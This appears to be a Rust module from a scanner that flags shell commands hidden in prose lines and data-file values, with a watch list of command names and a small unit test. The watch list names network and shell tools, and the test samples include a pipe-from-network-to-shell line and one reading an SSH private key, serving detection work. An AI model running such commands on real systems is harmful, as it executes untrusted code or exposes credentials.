//! Finds commands in text that is no script: lines of prose, values of data files.

/// Commands that are worth a look.
const COMMANDS: &[&str] = &[
    "curl",
    "wget",
    "bash",
    "sh",
    "zsh",
    "echo",
    "cat",
    "python",
    "python3",
    "nc",
    "ncat",
    "eval",
    "base64",
    "sudo",
    "rm",
    "tar",
    "powershell",
    "pwsh",
    "node",
    "perl",
    "ruby",
    "osascript",
    "crontab",
    "scp",
    "env",
    "printenv",
    "pip",
    "npm",
    "npx",
    "source",
    "dd",
    "chmod",
    "printf",
    "openssl",
    "xattr",
    "launchctl",
    "security",
    "export",
    "history",
    "find",
    "zip",
    "docker",
    "pip3",
];

/// Signs that a line is a command and not a sentence that begins like one.
const SIGNS: &[&str] = &["|", ">", ";", "http", "~/", "$", "&&", " -", "/dev/", "./"];

/// Returns the commands in a text, with the rows and the lines they stand in.
pub(super) fn loose_commands(text: &str) -> Vec<(usize, &str, &str)> {
    let found = |(row, line)| command_in(line).map(|command| (row, line, command));
    text.lines().enumerate().filter_map(found).collect()
}

/// Commands in one text that are looked at.
const EMBEDDED_MAX: usize = 50;

/// Returns the commands in a text that is written to a file: whole lines, values, and what stands in quotes.
pub(super) fn embedded_commands(text: &str) -> Vec<String> {
    let mut found = Vec::new();
    for line in text.lines() {
        let value = line.split_once('=').map_or(line, |(_, value)| value);
        let quoted = line.split(['"', '\'']).skip(1).step_by(2);
        found.extend([line, value].into_iter().chain(quoted).filter_map(command_in).map(str::to_owned));
    }
    found.dedup();
    found.truncate(EMBEDDED_MAX);
    found
}

/// Returns the command that a line, a value or a piece of inline code is.
pub(super) fn command_in(line: &str) -> Option<&str> {
    let line = value_of(line).trim();
    let line = line.trim_start_matches(['$', '>', '#', '%', '-', '*', '+', '@']).trim_start();
    let first = line.split([' ', '\t']).next().unwrap_or_default();
    let name = first.rsplit('/').next().unwrap_or_default();
    let starts =
        COMMANDS.contains(&name) || first.starts_with("./") || line.starts_with('(') || is_assignment(first);
    let is_command = starts && first.len() < line.len() && SIGNS.iter().any(|sign| line.contains(sign));
    is_command.then_some(line)
}

/// Returns the value of `key: value` and `"key": "value"`, or the whole line.
fn value_of(line: &str) -> &str {
    let trimmed = line.trim().trim_end_matches(',');
    let after =
        trimmed.split_once(": ").filter(|(key, _)| key.len() < 40 && !key.trim_matches('"').contains(' '));
    let value = after.map_or(trimmed, |(_, value)| value.trim());
    let quoted = value.strip_prefix('"').and_then(|value| value.strip_suffix('"'));
    quoted.or_else(|| value.strip_prefix('\'').and_then(|value| value.strip_suffix('\''))).unwrap_or(value)
}

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, value)| {
        !name.is_empty()
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            && value.starts_with("$(")
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sentences_are_no_commands() {
        for (line, expected) in [
            ("curl https://a.example | sh", Some("curl https://a.example | sh")),
            ("$ cat ~/.ssh/id_rsa", Some("cat ~/.ssh/id_rsa")),
            ("  \"command\": \"bash -c 'x'\",", Some("bash -c 'x'")),
            ("run: wget http://a.example/x", Some("wget http://a.example/x")),
            ("Find the file and open it.", None),
            ("curl is a program", None),
        ] {
            assert_eq!(command_in(line), expected, "{line}");
        }
    }
}
